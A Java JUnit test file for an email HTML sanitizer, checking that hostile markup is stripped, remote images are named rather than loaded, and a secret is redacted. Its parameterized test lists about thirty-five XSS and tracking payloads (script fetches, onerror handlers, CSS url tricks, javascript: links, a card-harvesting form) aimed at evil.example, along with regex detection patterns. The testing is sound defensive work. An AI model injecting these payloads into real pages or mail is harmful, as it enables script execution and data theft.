package dev.roundtrip.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import dev.roundtrip.trip.Attachment;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HarmlessHtmlTest {
    private static final String SECRET = "t0p&secret-2026";
    private final Attachment pole = new Attachment("pole.png", "image/png", Drawing.noise(640, 480));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script src='https://evil.example/a.js'>fetch('https://evil.example')</script>",
                "<img src='https://evil.example/pixel.gif' width=1 height=1>",
                "<img src=//evil.example/p.png srcset='https://evil.example/2x.png 2x'>",
                "<img src=x onerror=\"fetch('https://evil.example')\">",
                "<body background='https://evil.example/bg.png' onload='go()'>",
                "<table background='https://evil.example/bg.png'><tr><td background='https://evil.example/b.png'>x</td></tr></table>",
                "<p style=\"background: url(https://evil.example/bg.png)\">x</p>",
                "<p style=\"background-image: image-set('https://evil.example/bg.png' 1x)\">x</p>",
                "<p style=\"background: u\\72l(https://evil.example/bg.png)\">x</p>",
                "<p style=\"background: ur/**/l(https://evil.example)\">x</p>",
                "<p style=\"list-style: url('https://evil.example/dot.png')\">x</p>",
                "<p style=\"width: expression(alert(1)); behavior: url(x.htc)\">x</p>",
                "<style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example) }</style>",
                "<link rel=stylesheet href='https://evil.example/a.css'>",
                "<meta http-equiv=refresh content='0; url=https://evil.example'>",
                "<base href='https://evil.example/'>",
                "<iframe src='https://evil.example'></iframe>",
                "<iframe srcdoc=\"<script>fetch('https://evil.example')</script>\"></iframe>",
                "<object data='https://evil.example/a.swf'><embed src='https://evil.example/a.swf'></object>",
                "<form action='https://evil.example'><input name=card onfocus='go()'><button formaction='https://evil.example'>Pay</button></form>",
                "<a href='https://evil.example/?t=1' ping='https://evil.example'>here</a>",
                "<a href=\"javascript:fetch('https://evil.example')\">here</a>",
                "<blockquote cite='https://evil.example'>x</blockquote><q cite='https://evil.example'>y</q>",
                "<svg><image href='https://evil.example/a.svg'/><script>go()</script></svg>",
                "<math><mtext><script>go()</script></mtext></math>",
                "<video src='https://evil.example/a.mp4' poster='https://evil.example/a.png'></video>",
                "<audio src='https://evil.example/a.mp3'></audio><picture><source srcset='https://evil.example/a.webp'></picture>",
                "<img src='data:text/html;base64,PHNjcmlwdD5nbygpPC9zY3JpcHQ+'>",
                "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
                "<input type=image src='https://evil.example/a.png'>",
                "<noscript><img src='https://evil.example/a.png'></noscript>",
                "<template><img src='https://evil.example/a.png'></template>",
                "<!--[if mso]><img src='https://evil.example/a.png'><![endif]-->",
                "<div title='--><img src=https://evil.example/a.png>'>x</div>",
                "<p style='position: fixed; inset: 0; z-index: 9'>covers everything</p>"
            })
    void nothing_of_a_hostile_mail_runs_or_asks_a_network(String hostile) {
        String html = html("<p>Dear Maya,</p>" + hostile + "<p>Tomas</p>");

        assertThat(html).contains("<p>Dear Maya,</p>");
        // What is no attribute of a tag is text, and text asks nobody.
        assertThat(html.replaceAll("title=\"[^\"]*\"", ""))
                .doesNotContainPattern(
                        "(?i)<[a-z][^>]*\\s(?:on\\w+|href|srcset|background|action|formaction|poster|ping|cite|data|srcdoc)\\s*=")
                .doesNotContainPattern(
                        "(?i)<(?:script|style|link|meta|base|iframe|object|embed|form|input|svg|math|video|audio|source)")
                .doesNotContainPattern("(?i)<[^>]*(?:url\\(|expression|image-set|@import|behavior|position)")
                .doesNotContainPattern("(?i)<[a-z][^>]*src=\"(?!data:image/jpeg)");
    }

    @Test
    void a_remote_picture_is_named_in_its_place() {
        assertThat(html("<img src='https://cdn.shop.example/logo.png?u=17' alt='Logo'>"))
                .contains("[remote picture not loaded: cdn.shop.example]")
                .doesNotContain("u=17");
        assertThat(html("<img src='ht tp://?'>")).contains("[remote picture not loaded: no address]");
    }

    @Test
    void pictures_of_the_mail_itself_are_shown_small() {
        HarmlessHtml harmless = new HarmlessHtml(ink(), Map.of("pole@shop", pole));

        String html = harmless.of("<img src='cid:pole@shop' width=640><img src='cid:other@shop'>");

        assertThat(html)
                .contains("src=\"data:image/jpeg;base64,", "[a picture of this mail that can't be shown here]")
                .doesNotContain("cid:");
        assertThat(html.length()).isLessThan(12 * 1024 * 4 / 3 + 300);
        assertThat(harmless.shown()).containsExactly("pole@shop");
    }

    @Test
    void a_mail_of_many_pictures_is_shown_by_its_first_ones() {
        String html = html("<img src='data:image/png;base64,%s'>"
                .formatted(java.util.Base64.getEncoder().encodeToString(Drawing.blank(2, 2)))
                .repeat(20));

        assertThat(html.split("data:image/jpeg", -1)).hasSizeLessThanOrEqualTo(9);
    }

    @Test
    void the_look_stays_where_it_is_harmless() {
        assertThat(html("<p style='color: #1b2430; font-family: \"Noto Sans\", sans-serif; background: url(x)'>x</p>"))
                .contains("color: #1b2430; font-family: &quot;Noto Sans&quot;, sans-serif")
                .doesNotContain("url");
        assertThat(html("<table><tr><td bgcolor='#eee' align=right><b>Total</b></td></tr></table>"))
                .contains("<td bgcolor=\"#eee\" align=\"right\"><b>Total</b></td>");
    }

    @Test
    void secrets_are_hidden_in_texts_attributes_and_where_mark_up_cuts_them() {
        assertThat(html("<p>It is t0p&amp;secret-2026.</p>"))
                .contains("«secret hidden»")
                .doesNotContain("secret-2026");
        assertThat(html("<p title='t0p&amp;secret-2026'>x</p>")).doesNotContain("secret-2026");
        assertThat(html("<p>It is t0p&amp;sec<b>ret-2026</b>.</p>"))
                .startsWith("<pre>")
                .contains("«secret hidden»")
                .doesNotContain("ret-2026");
    }

    private String html(String dirty) {
        return new HarmlessHtml(ink(), Map.of()).of(dirty);
    }

    private static Ink ink() {
        return new Ink(new Redactor(List.of(SECRET)));
    }
}
